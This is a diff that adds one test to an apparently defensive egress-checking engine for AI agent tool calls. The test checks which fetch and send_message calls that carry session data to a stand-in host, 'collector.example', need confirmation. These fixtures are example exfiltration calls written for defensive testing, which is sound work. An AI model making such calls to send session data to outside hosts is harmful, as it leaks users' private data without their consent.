@@ -118,6 +118,26 @@ describe("destinations", () => {
     );
   });
 
+  it("a plain page read does not make its host one the session sent to: data sent there next is new", () => {
+    const j = judgeOf({ text: EGRESS, tainted: true });
+    const page = { method: "tools/call", params: call("fetch", { url: "https://collector.example/" }) };
+    expect(j.judge(page.method, page.params).verdict).toBe("allow");
+    j.observe(page, answer);
+    for (const params of [
+      call("fetch", { url: "https://collector.example/p?d=x" }),
+      call("send_message", { to: "https://collector.example/hook", body: "the session's notes" }),
+    ]) {
+      const d = j.judge("tools/call", params);
+      expect([d.verdict, d.rule], JSON.stringify(params)).toEqual(["confirm", "egress.tainted_new_host"]);
+    }
+    // Once data went there (a call carrying it was answered), the host is one the session sent to.
+    const sent = { method: "tools/call", params: call("fetch", { url: "https://collector.example/p?d=x" }) };
+    j.observe(sent, answer);
+    expect(j.judge("tools/call", call("fetch", { url: "https://collector.example/q?e=y" })).verdict).toBe(
+      "allow",
+    );
+  });
+
   it("a repository named by a read is seen: commenting on it after reading its issue is fine", () => {
     const j = judgeOf({ text: EGRESS, tainted: true });
     const read = {
